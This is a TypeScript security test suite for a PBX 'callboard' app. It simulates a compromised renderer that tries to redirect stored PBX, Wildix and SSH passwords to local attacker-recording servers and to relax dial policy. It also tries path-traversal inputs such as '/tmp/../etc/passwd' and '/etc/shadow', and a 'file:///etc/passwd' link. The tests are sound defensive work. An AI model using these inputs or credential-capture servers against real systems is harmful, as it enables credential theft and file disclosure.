/**
 * The compromised renderer: an attacker holding only `window.callboard`, i.e. any request on any IPC
 * channel, through the real router and handlers, against the UCM simulator (the operator's real PBX)
 * and an attacker's own HTTPS server on 127.0.0.1 that records everything it receives.
 *
 * With the fake operator refusing (the default), every attack in the trust issue fails: no credential
 * reaches a server the operator did not confirm, nothing is dialled, nothing is opened, no file is
 * handed to the sensor. The same attacks with the operator confirming go through exactly as far as
 * the operator confirmed, so these tests can fail.
 */
import { createServer as createHttpsServer, type Server } from 'node:https';
import { createServer as createTcpServer, type Server as TcpServer } from 'node:net';
import { X509Certificate, createHash } from 'node:crypto';
import { Server as SshServer, utils as sshUtils } from 'ssh2';
import { promises as fs } from 'node:fs';
import path from 'node:path';
import type { AddressInfo } from 'node:net';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createRouter, type Router } from '../../../src-main/ipc/router';
import { createHandlers } from '../../../src-main/ipc/handlers';
import type { Envelope } from '../../../src-main/ipc/contract';
import type { ProfileInput } from '../../../src-main/profiles/schema';
import { fakeContext, type FakeContext } from '../../helpers/fake-app-context';
import { makeSimCert, startUcmSim, type UcmSim } from '../../sims/ucm/sim';

const APP = 'app://callboard/index.html';
const main = { url: APP, isMainFrame: true, id: 1 };
const PASSWORD = 'cdrapi123';
const WILDIX_PASSWORD = 'wildix-basic-canary-51';
const SSH_PASSWORD = 'ssh-canary-password-93';

interface Received {
  method: string;
  url: string;
  headers: Record<string, string | string[] | undefined>;
  body: string;
}

/** The attacker's HTTPS server: records every request, answers like a UCM challenge so a client would go on to log in. */
async function startAttacker(cert: { cert: string; key: string }): Promise<{ server: Server; url: string; fingerprint: string; received: Received[]; handshakes: number }> {
  const received: Received[] = [];
  const state = { handshakes: 0 };
  const server = createHttpsServer({ cert: cert.cert, key: cert.key }, (req, res) => {
    let body = '';
    req.on('data', (c: Buffer) => (body += c.toString('utf8')));
    req.on('end', () => {
      received.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers, body });
      res.setHeader('content-type', 'application/json');
      res.end(JSON.stringify({ response: { challenge: '0000000000000001' }, status: 0 }));
    });
  });
  server.on('secureConnection', () => state.handshakes++);
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const port = (server.address() as AddressInfo).port;
  const fingerprint = new X509Certificate(cert.cert).fingerprint256;
  return {
    server,
    url: `https://127.0.0.1:${port}`,
    fingerprint,
    received,
    get handshakes() {
      return state.handshakes;
    },
  };
}

/** The attacker's SSH server: records every authentication attempt, accepts none. */
async function startSshAttacker(): Promise<{ server: SshServer; port: number; fingerprint: string; attempts: Array<{ user: string; method: string; password?: string }> }> {
  const keys = sshUtils.generateKeyPairSync('ed25519');
  const parsed = sshUtils.parseKey(keys.public);
  if (parsed instanceof Error) throw parsed;
  const fingerprint = 'SHA256:' + createHash('sha256').update(parsed.getPublicSSH()).digest('base64').replace(/=+$/, '');
  const attempts: Array<{ user: string; method: string; password?: string }> = [];
  const server = new SshServer({ hostKeys: [keys.private] }, (client) => {
    client.on('authentication', (a) => {
      attempts.push({ user: a.username, method: a.method, ...(a.method === 'password' ? { password: a.password } : {}) });
      a.reject(['password']);
    });
    client.on('error', () => undefined);
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return { server, port: (server.address() as AddressInfo).port, fingerprint, attempts };
}

let sshAttacker: Awaited<ReturnType<typeof startSshAttacker>>;
let sim: UcmSim;
let attacker: Awaited<ReturnType<typeof startAttacker>>;
let sensorDoor: TcpServer;
let sensorConnections = 0;
let sensorPort = 0;
let ctx: FakeContext;
let router: Router;

const call = async (channel: string, payload: unknown): Promise<Envelope<Record<string, unknown>>> => (await router.handle(channel, main, payload)) as Envelope<Record<string, unknown>>;

function hq(over: Partial<Record<string, unknown>> = {}): ProfileInput {
  return { id: 'hq', name: 'HQ', kind: 'ucm', baseUrl: sim.url, user: 'cdrapi', tlsCertSha256: sim.fingerprint, operatorExtension: '1000', dialPolicy: { defaultCountry: 'GB' }, ...over } as ProfileInput;
}

/** A Wildix PBX reached with HTTP Basic; its real address is not reachable in these tests (nothing listens on port 9). */
function wx(over: Partial<Record<string, unknown>> = {}): ProfileInput {
  return { id: 'wx', name: 'Wildix', kind: 'wildix', baseUrl: 'https://127.0.0.1:9', auth: 'basic', basicUser: 'api', operatorExtension: '201', ...over } as ProfileInput;
}

/** A sensor reached through SSH with a password; its real host is not reachable here (port 9). */
function sensor(over: Partial<Record<string, unknown>> = {}): ProfileInput {
  return { id: 'ssh-edge', name: 'SSH sensor', kind: 'voipmonitor', cipher: 'none', transport: { type: 'ssh', host: '127.0.0.1', port: 9, user: 'voip', auth: 'password', mode: 'exec', ...over } } as ProfileInput;
}

beforeAll(async () => {
  const [simCert, attackerCert] = await Promise.all([makeSimCert('UCM6304'), makeSimCert('UCM6304')]);
  sim = await startUcmSim({ cert: simCert });
  sshAttacker = await startSshAttacker();
  attacker = await startAttacker(attackerCert);
  sensorDoor = createTcpServer((s) => {
    sensorConnections++;
    s.destroy();
  });
  await new Promise<void>((r) => sensorDoor.listen(0, '127.0.0.1', r));
  sensorPort = (sensorDoor.address() as AddressInfo).port;
}, 60_000);

afterAll(async () => {
  await sim?.stop();
  await new Promise((r) => attacker?.server.close(r));
  await new Promise((r) => sensorDoor?.close(r));
  await new Promise((r) => sshAttacker?.server.close(r));
});

beforeEach(async () => {
  ctx = await fakeContext([
    hq(),
    { id: 'edge', name: 'Edge sensor', kind: 'voipmonitor', transport: { type: 'tcp', host: '127.0.0.1', port: sensorPort }, cipher: 'none' },
    { id: 'vault', name: 'Vault', kind: 'sipvault', baseUrl: 'https://vault.example.com', customerId: 'acme' },
    wx(),
    sensor(),
  ]);
  await ctx.secrets.set('ssh-edge', 'sshPassword', SSH_PASSWORD);
  await ctx.secrets.set('wx', 'basicPassword', WILDIX_PASSWORD);
  // The operator entered the PBX password in Settings earlier: it is bound to the PBX's address.
  await ctx.secrets.set('hq', 'password', PASSWORD);
  router = createRouter({ handlers: createHandlers(ctx), isTrustedUrl: (u) => u === APP, emit: () => undefined });
  attacker.received.length = 0;
  sensorConnections = 0;
  sshAttacker.attempts.length = 0;
});

afterEach(async () => {
  await ctx.connections.closeAll();
  await ctx.cleanup();
});

const profilesFile = () => fs.readFile(path.join(ctx.configDir, 'profiles.json'), 'utf8');

/** Nothing with the password (or anything derived from it) reached the attacker. */
function expectNothingLeaked(): void {
  expect(JSON.stringify(attacker.received)).not.toContain(PASSWORD);
  expect(JSON.stringify(attacker.received)).not.toContain(Buffer.from(`api:${WILDIX_PASSWORD}`).toString('base64'));
  expect(attacker.received.filter((r) => /login|token|authorization/i.test(JSON.stringify(r)))).toEqual([]);
}

describe('a compromised renderer, the operator refusing', () => {
  it('cannot re-point a profile at its own server, with or without its own pin, nor make main log in there', async () => {
    const before = await profilesFile();
    for (const over of [{ baseUrl: attacker.url, tlsCertSha256: attacker.fingerprint }, { baseUrl: attacker.url, tlsCertSha256: undefined }, { user: 'admin' }]) {
      const r = await call('profiles:save', { isNew: false, profile: hq(over) });
      expect(r).toMatchObject({ ok: false, error: { code: 'cancelled' } });
    }
    expect(await profilesFile()).toBe(before);
    // Main asked (and named the attacker's address), the operator said no.
    expect(ctx.platform.requests.map((q) => q.changes.find((c) => c.label === 'Base URL')?.to).filter(Boolean)).toEqual([attacker.url, attacker.url]);
    const t = await call('connection:test', { profileId: 'hq' });
    expect(t).toMatchObject({ ok: true, value: { ok: true } });
    expect(attacker.received).toEqual([]);
    expect(attacker.handshakes).toBe(0);
    expectNothingLeaked();
  });

  it('cannot send the Wildix Basic password to its own server', async () => {
    expect(await call('profiles:save', { isNew: false, profile: wx({ baseUrl: attacker.url, tlsCertSha256: attacker.fingerprint }) })).toMatchObject({ ok: false, error: { code: 'cancelled' } });
    await call('connection:test', { profileId: 'wx' });
    expect(attacker.received).toEqual([]);
    expectNothingLeaked();
  });

  it('cannot send the SSH password to its own SSH server (host, port, user or its own host key)', async () => {
    for (const over of [{ port: sshAttacker.port, hostKeySha256: sshAttacker.fingerprint }, { port: sshAttacker.port }, { user: 'root' }]) {
      expect(await call('profiles:save', { isNew: false, profile: sensor(over) })).toMatchObject({ ok: false, error: { code: 'cancelled' } });
    }
    await call('connection:test', { profileId: 'ssh-edge' });
    expect(sshAttacker.attempts).toEqual([]);
  });

  it('cannot accept a trust offer itself: main shows the fingerprint in its own dialog, the operator refuses, nothing is pinned or sent', async () => {
    await ctx.profiles.upsert(hq({ tlsCertSha256: undefined }));
    const loginsBefore = sim.counts().logins;
    const t = await call('connection:test', { profileId: 'hq' });
    expect(t).toMatchObject({ ok: true, value: { ok: false, trust: { fingerprint: sim.fingerprint } } });
    const r = await call('connection:trust', { profileId: 'hq', fingerprint: sim.fingerprint });
    expect(r).toMatchObject({ ok: false, error: { code: 'cancelled' } });
    expect(ctx.platform.requests.at(-1)?.fingerprints?.[0]?.value).toBe(sim.fingerprint);
    const p = await ctx.profiles.get('hq');
    expect(p.kind === 'ucm' && p.tlsCertSha256).toBeUndefined();
    // Single use: the refused offer cannot be replayed.
    expect(await call('connection:trust', { profileId: 'hq', fingerprint: sim.fingerprint })).toMatchObject({ ok: false, error: { code: 'usage' } });
    expect(sim.counts().logins).toBe(loginsBefore);
  });

  it('cannot relax the dial policy, and premium, satellite and short codes are refused; nothing is dialled', async () => {
    const before = await profilesFile();
    const wide = { defaultCountry: 'GB', allowInternational: true, allow: ['+44906*', '+1900*', '+88*'], maxPerMinute: 120, dedupSeconds: 0, extensionPattern: '[0-9]{2,15}' };
    const r = await call('profiles:save', { isNew: false, profile: hq({ dialPolicy: wide }) });
    expect(r).toMatchObject({ ok: false, error: { code: 'cancelled' } });
    expect(ctx.platform.requests.at(-1)?.policyDiff?.map((d) => d.label)).toEqual(['International numbers', 'Always-allowed numbers', 'Extension pattern', 'Calls per minute', 'Double-click window (s)']);
    expect(await profilesFile()).toBe(before);
    for (const dest of ['0906 123 4567', '+1 900 555 0123', '+881 6 12345678', '+44 20 7946 0000' /* fine nationally */, '118118', '0112', '00112', '9999', '999', '+49 30 123456']) {
      const prep = await call('originate:prepare', { profileId: 'hq', destination: dest });
      if (dest === '+44 20 7946 0000') {
        expect(prep.ok).toBe(true);
        continue;
      }
      expect(prep, dest).toMatchObject({ ok: false, error: { code: 'policy' } });
    }
    expect(sim.dials).toEqual([]);
  });

  it('cannot hand the sensor a path of its choosing for manager_file, nor the configured one without the operator', async () => {
    for (const socketPath of ['/tmp/../etc/passwd', '/etc/shadow', '/tmp//vm_manager', '/var/run/x.sock']) {
      const r = await call('live:managerFile', { profileId: 'edge', action: 'start', socketPath });
      expect(r, socketPath).toMatchObject({ ok: false, error: { code: 'policy' } });
    }
    expect(await call('live:managerFile', { profileId: 'edge', action: 'start', socketPath: '/tmp/vm_manager_socket' })).toMatchObject({ ok: false, error: { code: 'cancelled' } });
    expect(await call('live:managerFile', { profileId: 'edge', action: 'stop' })).toMatchObject({ ok: false, error: { code: 'cancelled' } });
    expect(sensorConnections).toBe(0);
  });

  it('cannot add a link target: no new SIP VAULT base, so app:openExternal opens nothing under it', async () => {
    const r = await call('profiles:save', { isNew: true, profile: { id: 'evil', name: 'Vault', kind: 'sipvault', baseUrl: attacker.url, customerId: 'x' } });
    expect(r).toMatchObject({ ok: false, error: { code: 'cancelled' } });
    const moved = await call('profiles:save', { isNew: false, profile: { id: 'vault', name: 'Vault', kind: 'sipvault', baseUrl: attacker.url, customerId: 'acme' } });
    expect(moved).toMatchObject({ ok: false, error: { code: 'cancelled' } });
    for (const url of [`${attacker.url}/call/x`, 'https://vault.example.com.evil.net/', 'file:///etc/passwd']) {
      expect((await call('app:openExternal', { url })).ok, url).toBe(false);
    }
    expect(ctx.platform.opened).toEqual([]);
  });

  it('cannot import profiles that re-point everything', async () => {
    const file = path.join(ctx.configDir, 'evil.json');
    await fs.writeFile(file, JSON.stringify({ version: 1, profiles: [hq({ baseUrl: attacker.url, tlsCertSha256: attacker.fingerprint })] }));
    ctx.platform.openFile = async () => file;
    const before = await profilesFile();
    expect(await call('profiles:import', {})).toMatchObject({ ok: false, error: { code: 'cancelled' } });
    expect(await profilesFile()).toBe(before);
    await call('connection:test', { profileId: 'hq' });
    expect(attacker.received).toEqual([]);
  });

  it('gets no secret back from any reply', async () => {
    const replies = [await call('profiles:list', {}), await call('connection:test', { profileId: 'hq' }), await call('profiles:export', {})];
    expect(JSON.stringify(replies)).not.toContain(PASSWORD);
  });
});

describe('the same attacks, the operator confirming', () => {
  it('a confirmed host change does not take the stored password along unless that is confirmed too', async () => {
    ctx.platform.answers.push(true, false); // yes to the new address, no to sending the stored secrets there
    expect(await call('profiles:save', { isNew: false, profile: hq({ baseUrl: attacker.url, tlsCertSha256: attacker.fingerprint }) })).toMatchObject({ ok: true });
    const t = await call('connection:test', { profileId: 'hq' });
    expect(t).toMatchObject({ ok: true, value: { ok: false, code: 'config' } });
    expect(String(t.ok && t.value.message)).toMatch(/entered for a different host/);
    expect(attacker.received).toEqual([]);
    // Entering the password again (for the new address) is the operator's other way to confirm it.
    expect(await call('secrets:set', { profileId: 'hq', name: 'password', value: 'typed-again' })).toMatchObject({ ok: true });
    await call('connection:test', { profileId: 'hq' });
    expect(attacker.received.map((r) => r.body).join('\n')).toMatch(/challenge/);
    expect(JSON.stringify(attacker.received)).not.toContain(PASSWORD);
  });

  it('a host change with the stored secrets confirmed: they go exactly where the operator said', async () => {
    ctx.platform.answers.push(true, true);
    expect(await call('profiles:save', { isNew: false, profile: hq({ baseUrl: attacker.url, tlsCertSha256: attacker.fingerprint }) })).toMatchObject({ ok: true });
    await call('connection:test', { profileId: 'hq' });
    // The attacker answered the challenge, so main went on to log in there: the test can fail.
    expect(attacker.received.some((r) => /login/.test(r.body))).toBe(true);
    expect(sim.counts()).toBeDefined();
  });

  it('Wildix: the Basic password reaches the new address only when the operator confirmed both', async () => {
    ctx.platform.answers.push(true, false);
    await call('profiles:save', { isNew: false, profile: wx({ baseUrl: attacker.url, tlsCertSha256: attacker.fingerprint }) });
    await call('connection:test', { profileId: 'wx' });
    expect(attacker.received).toEqual([]);
    ctx.platform.answers.push(true, true);
    await call('profiles:save', { isNew: false, profile: wx({ baseUrl: 'https://127.0.0.1:9' }) });
    await call('secrets:set', { profileId: 'wx', name: 'basicPassword', value: WILDIX_PASSWORD }); // entered again for :9
    ctx.platform.answers.push(true, true);
    await call('profiles:save', { isNew: false, profile: wx({ baseUrl: attacker.url, tlsCertSha256: attacker.fingerprint }) });
    await call('connection:test', { profileId: 'wx' });
    const basic = `Basic ${Buffer.from(`api:${WILDIX_PASSWORD}`).toString('base64')}`;
    expect(attacker.received.some((r) => r.headers.authorization === basic)).toBe(true);
  });

  it('SSH: the password reaches the new server only when the operator confirmed the address and the secret', async () => {
    ctx.platform.answers.push(true, false);
    await call('profiles:save', { isNew: false, profile: sensor({ port: sshAttacker.port, hostKeySha256: sshAttacker.fingerprint }) });
    await call('connection:test', { profileId: 'ssh-edge' });
    expect(sshAttacker.attempts.filter((a) => a.method === 'password')).toEqual([]);
    await call('secrets:set', { profileId: 'ssh-edge', name: 'sshPassword', value: SSH_PASSWORD }); // entered again: for this server
    await call('connection:test', { profileId: 'ssh-edge' });
    expect(sshAttacker.attempts).toContainEqual({ user: 'voip', method: 'password', password: SSH_PASSWORD });
  });

  it('a confirmed trust offer pins exactly what main showed', async () => {
    await ctx.profiles.upsert(hq({ tlsCertSha256: undefined }));
    await call('connection:test', { profileId: 'hq' });
    ctx.platform.answer = true;
    expect(await call('connection:trust', { profileId: 'hq', fingerprint: sim.fingerprint })).toMatchObject({ ok: true });
    const p = await ctx.profiles.get('hq');
    expect(p.kind === 'ucm' && p.tlsCertSha256).toBe(sim.fingerprint);
    expect((await ctx.audit.list({ action: 'trust-accept' }))[0]?.reason).toContain(sim.fingerprint);
  });

  it('a confirmed relaxed policy is audited with its diff, and premium numbers still need an exact entry', async () => {
    ctx.platform.answer = true;
    const relaxed = { defaultCountry: 'GB', allowInternational: true, allow: ['+1900*', '+19005550123'] };
    expect(await call('profiles:save', { isNew: false, profile: hq({ dialPolicy: relaxed }) })).toMatchObject({ ok: true });
    const audit = (await ctx.audit.list({ action: 'profile-change' }))[0];
    expect(audit?.reason).toMatch(/dialPolicy\.allowInternational: false → true/);
    expect(audit?.reason).toMatch(/dialPolicy\.allow: \[\] → \["\+1900\*","\+19005550123"\]/);
    expect(await call('originate:prepare', { profileId: 'hq', destination: '+49 30 123456' })).toMatchObject({ ok: true });
    expect(await call('originate:prepare', { profileId: 'hq', destination: '+1 900 555 0123' })).toMatchObject({ ok: true });
    expect(await call('originate:prepare', { profileId: 'hq', destination: '+1 900 555 0124' })).toMatchObject({ ok: false, error: { code: 'policy' } });
  });

  it('a confirmed manager_file on the configured socket reaches the sensor', async () => {
    ctx.platform.answer = true;
    await call('live:managerFile', { profileId: 'edge', action: 'start', socketPath: '/tmp/vm_manager_socket' });
    expect(sensorConnections).toBeGreaterThan(0);
  });

  it('a confirmed SIP VAULT base becomes a link target', async () => {
    ctx.platform.answer = true;
    expect(await call('profiles:save', { isNew: true, profile: { id: 'v2', name: 'V2', kind: 'sipvault', baseUrl: attacker.url, customerId: 'x' } })).toMatchObject({ ok: true });
    expect(await call('app:openExternal', { url: `${attacker.url}/call/x` })).toMatchObject({ ok: true });
    expect(ctx.platform.opened).toEqual([`${attacker.url}/call/x`]);
  });
});
